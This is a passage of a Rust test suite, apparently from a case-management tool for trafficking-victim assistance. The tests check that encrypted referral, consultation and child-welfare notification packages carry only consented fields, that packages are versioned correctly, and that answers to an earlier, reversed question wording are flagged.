        Some(LegalBasis::ChildWelfareAct25Police)
    );
}

/// Without consent only this: about a child, to the authority of the notification's kind, its
/// identity and contact, after the caseworker has read the concern for others' names.
#[test]
fn a_notification_goes_only_about_a_child_to_its_own_authority_and_nothing_more() {
    let (f, vault, _desk, view) = child_sender();
    let welfare = notify(&vault, &view, NotificationKind::ChildWelfare);
    let police = notify(&vault, &view, NotificationKind::Police);
    let out = f.dir.path().join("p.age");
    let refused = |req: Request| {
        let err = create(&vault, &req, &out).unwrap_err();
        assert!(!out.exists(), "nothing written for {err}");
        err
    };
    // To the other authority.
    let err = refused(notification_request(&view, CHILD_WELFARE, police));
    assert!(err.to_string().contains("not the authority"), "{err}");
    let err = refused(notification_request(&view, "Police", welfare));
    assert!(err.to_string().contains("not the authority"), "{err}");
    // More than identity and contact.
    let err = refused(Request {
        fields: Some(vec![FieldGroup::Identity, FieldGroup::Account]),
        ..notification_request(&view, CHILD_WELFARE, welfare)
    });
    assert!(
        err.to_string().contains("only identity and contact"),
        "{err}"
    );
    // Without naming the notification.
    refused(Request {
        notification: None,
        ..notification_request(&view, CHILD_WELFARE, welfare)
    });
    // The concern is free text: read for others' names first.
    assert!(matches!(
        refused(Request {
            checked_for_others: false,
            ..notification_request(&view, CHILD_WELFARE, welfare)
        }),
        Error::OthersNotChecked
    ));
    // A referral to child welfare is not a notification: it needs consent as ever.
    assert!(matches!(
        refused(Request {
            recipient: CHILD_WELFARE.into(),
            ..request(&view, Mode::Referral, None)
        }),
        Error::ConsentMissing { .. }
    ));
    // Corrected to an adult's birth date, nothing leaves without consent.
    let mut person = view.person.record.clone();
    person.birth = Some(Birth::Date(d(1990, 3, 4)));
    cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(view.case.record.details.clone()),
        },
        today(),
    )
    .unwrap();
    assert!(matches!(
        refused(notification_request(&view, CHILD_WELFARE, welfare)),
        Error::NotAChild
    ));
    assert!(
        disclosures::of_case(&vault, view.case.id)
            .unwrap()
            .is_empty()
    );
}

/// A referral request for `groups`, with the person's consent to exactly those recorded first.
fn consented_referral(vault: &Vault, view: &CaseView, groups: &[FieldGroup]) -> Request {
    consents::add(
        vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, groups),
        today(),
    )
    .unwrap();
    request(view, Mode::Referral, Some(groups.to_vec()))
}

/// A desk vault of its own, with its own organisation key, which `sender` knows by its card.
fn receiving_desk(sender: &Vault) -> (tempfile::TempDir, Vault, age::x25519::Identity) {
    let dir = tempfile::tempdir().unwrap();
    let receiver = desk_vault(&dir.path().join("desk.silta"));
    org::set_up(&receiver, "Assistance System").unwrap();
    let card = org::identity(&receiver).unwrap();
    let identity = org::keys(&receiver).unwrap().age_identity().unwrap();
    recipients::remove(sender, DESK).unwrap();
    recipients::add(
        sender,
        DESK,
        RecipientKind::AssistanceSystem,
        None,
        KeySource::Card(&serde_json::to_vec(&card).unwrap()),
    )
    .unwrap();
    recipients::confirm(sender, DESK, &card.fingerprint, today()).unwrap();
    (dir, receiver, identity)
}

/// The desk files an interview when the package's account holds anything, even only the answers
/// to the open questions, and none when the package holds nothing of an interview.
#[test]
fn the_desk_files_an_interview_only_when_the_package_holds_one() {
    for (groups, filed) in [
        (vec![FieldGroup::Identity], false),
        (vec![FieldGroup::Identity, FieldGroup::Account], true),
    ] {
        let (f, vault, _desk, view) = sender();
        let (_dir, receiver, identity) = receiving_desk(&vault);
        // Only the answers to the open questions were said: no account, no observations.
        let stored = cases::view(&vault, view.case.id, today())
            .unwrap()
            .interviews[0]
            .clone();
        let mut only_open = stored.record.clone();
        only_open.narrative.clear();
        only_open.observations.clear();
        vault.write(|v| v.update(&stored, &only_open)).unwrap();
        consents::add(
            &vault,
            view.case.id,
            &consent_for(Some(DESK), Purpose::Referral, &groups),
            today(),
        )
        .unwrap();
        let out = f.dir.path().join("referral.age");
        create(&vault, &request(&view, Mode::Referral, Some(groups)), &out).unwrap();
        let imported = desk::import(
            &receiver,
            &out,
            &identity,
            today(),
            desk::Sender::UnknownAccepted,
        )
        .unwrap();
        assert_eq!(imported.interviews.len(), usize::from(filed));
        if filed {
            let i = &imported.interviews[0].record;
            assert_eq!(i.open_answers[0].text, "Zxqv cleaned offices at night");
            assert!(i.narrative.is_empty());
        }
    }
}

/// An anonymous consultation may carry the account once the caseworker confirms it names no one,
/// but never the answers to the open questions: "how did you come here, and how was it arranged"
/// invites the names and places a consultation must not carry. Nothing of version 5 is used, so
/// the package is written as version 4, which a desk not yet updated still opens.
#[test]
fn a_consultation_never_carries_the_answers_to_the_open_questions() {
    let (f, vault, desk, view) = sender();
    let mut req = request(&view, Mode::Consultation, Some(vec![FieldGroup::Account]));
    req.names_no_one = true;
    let out = f.dir.path().join("consultation.age");
    create(&vault, &req, &out).unwrap();
    let opened = desk::open(&out, &desk.identity, &[], None).unwrap();
    let account = opened.data.account.as_ref().unwrap();
    assert_eq!(account[0].text, "Zxqv in her own words");
    assert!(opened.text.contains("Zxqv in her own words"));
    assert!(account.iter().all(|s| s.open_answers.is_empty()));
    for (name, bytes) in unpack(&out, &desk.identity) {
        assert!(!contains(&bytes, "cleaned offices"), "{name}");
    }
    assert_eq!(opened.data.version, 4);
}

/// Issue 12: question set 1 asked "Was the work… what you were promised?" under "Deception", so
/// its "yes" may mean the opposite. Such an answer travels marked, the form says so in the
/// receiver's language, and the desk files it apart (question set 1), where it suggests no code.
#[test]
fn an_answer_to_an_earlier_reversed_wording_travels_marked_and_is_not_taken_at_face_value() {
    let (f, vault, _desk, view) = sender();
    let (_dir, receiver, desk_identity) = receiving_desk(&vault);
    let mut old = interview("Old");
    old.status = InterviewStatus::Final;
    old.question_set = 1;
    old.answers = vec![IndicatorAnswer {
        indicator: Indicator::Deception,
        answer: Answer::Yes,
        source: Source::SelfReported,
        context: String::new(),
    }];
    vault.insert(Some(view.case.id), &old).unwrap();
    let groups = [
        FieldGroup::Identity,
        FieldGroup::Account,
        FieldGroup::Observations,
        FieldGroup::Indicators,
    ];
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &groups),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    create(
        &vault,
        &request(&view, Mode::Referral, Some(groups.to_vec())),
        &out,
    )
    .unwrap();
    let opened = desk::open(&out, &desk_identity, &[], None).unwrap();
    assert_eq!(opened.data.version, 5);
    let answers = &opened.data.indicators.as_ref().unwrap().answers;
    let deception = answers
        .iter()
        .find(|a| a.indicator == Indicator::Deception)
        .unwrap();
    assert!(deception.earlier_wording);
    let debt = answers
        .iter()
        .find(|a| a.indicator == Indicator::DebtBondage)
        .unwrap();
    assert!(!debt.earlier_wording);
    for (language, note) in [
        (FormLanguage::Fi, "kysytty aiemmalla sanamuodolla"),
        (FormLanguage::Sv, "ställd med en tidigare formulering"),
        (FormLanguage::En, "asked with an earlier wording"),
    ] {
        use silta_core::words::Words;
        let mut req = request(&view, Mode::Referral, Some(groups.to_vec()));
        req.language = Some(language);
        let text = referral::preview(&vault, &req, today(), FormLanguage::En)
            .unwrap()
            .text;
        let line = text
            .lines()
            .find(|l| l.contains(Indicator::Deception.label(language)))
            .unwrap();
        assert!(line.contains(note), "{language:?}: {line}");
    }

    let imported = desk::import(
        &receiver,
        &out,
        &desk_identity,
        today(),
        desk::Sender::UnknownAccepted,
    )
    .unwrap();
    let earlier = imported
        .interviews
        .iter()
        .find(|i| i.record.question_set == 1)
        .unwrap();
    assert_eq!(earlier.record.answers.len(), 1);
    // The account, observations and open answers are filed once, with today's answers.
    assert!(earlier.record.narrative.is_empty() && earlier.record.observations.is_empty());
    assert!(earlier.record.open_answers.is_empty());
    let suggested = silta_core::indicators::suggest(&earlier.record);
    assert!(suggested.methods_of_control.is_empty());
    assert_eq!(suggested.earlier_wording, [Indicator::Deception]);
    let current = imported
        .interviews
        .iter()
        .find(|i| i.record.question_set == silta_core::indicators::QUESTION_SET)
        .unwrap();
    assert_eq!(current.record.answers[0].indicator, Indicator::DebtBondage);
    // Both interviews answered "situation": one answer to it, the two texts one after the other.
    assert_eq!(
        current.record.open_answers,
        [OpenAnswer {
            question: OpenQuestion::Situation,
            text: "Zxqv cleaned offices at night\n\nOld cleaned offices at night".into()
        }]
    );
}

/// A package is written as data version 5 only when it holds something a version 4 reader does
/// not know: an indicator asked since question set 2, any answer to a reworded question, the
/// answer "did not want to answer", or answers to the open questions. Otherwise as 4.
#[test]
fn a_package_is_version_5_only_when_it_needs_to_be() {
    let version = |change: &dyn Fn(&mut Interview), groups: &[FieldGroup]| {
        let (_f, vault, _desk, view) = sender();
        let mut i = interview("Second");
        i.status = InterviewStatus::Final;
        i.open_answers.clear();
        change(&mut i);
        vault.insert(Some(view.case.id), &i).unwrap();
        let req = consented_referral(&vault, &view, groups);
        referral::preview(&vault, &req, today(), FormLanguage::En)
            .unwrap()
            .data
            .version
    };
    let coded = [FieldGroup::Identity, FieldGroup::Indicators];
    // Debt bondage: asked the same way in both question sets.
    assert_eq!(version(&|_| {}, &coded), 4);
    assert_eq!(
        version(
            &|i| i.answers[0].indicator = Indicator::PhysicalViolence,
            &coded
        ),
        5
    );
    assert_eq!(
        version(&|i| i.answers[0].indicator = Indicator::Deception, &coded),
        5
    );
    assert_eq!(
        version(
            &|i| {
                i.answers[0].indicator = Indicator::Deception;
                i.question_set = 1;
            },
            &coded
        ),
        5
    );
    assert_eq!(
        version(&|i| i.answers[0].answer = Answer::Declined, &coded),
        5
    );
    // The first interview's answers to the open questions travel with the account.
    let account = [FieldGroup::Identity, FieldGroup::Account];
    assert_eq!(version(&|_| {}, &account), 5);
}

/// An interview with nothing said in it (no account, no answers to the open questions, no
/// observations) adds no empty statement to the package.
#[test]
fn an_interview_with_nothing_said_adds_no_statement() {
    let (_f, vault, _desk, view) = sender();
    let mut silent = interview("Silent");
    silent.status = InterviewStatus::Final;
    silent.open_answers.clear();
    silent.narrative.clear();
    silent.observations.clear();
    vault.insert(Some(view.case.id), &silent).unwrap();
    let groups = [FieldGroup::Account, FieldGroup::Observations];
    let req = consented_referral(&vault, &view, &groups);
    let data = referral::preview(&vault, &req, today(), FormLanguage::En)
        .unwrap()
        .data;
    assert_eq!(data.account.unwrap().len(), 1);
    assert_eq!(data.observations.unwrap().len(), 1);
}
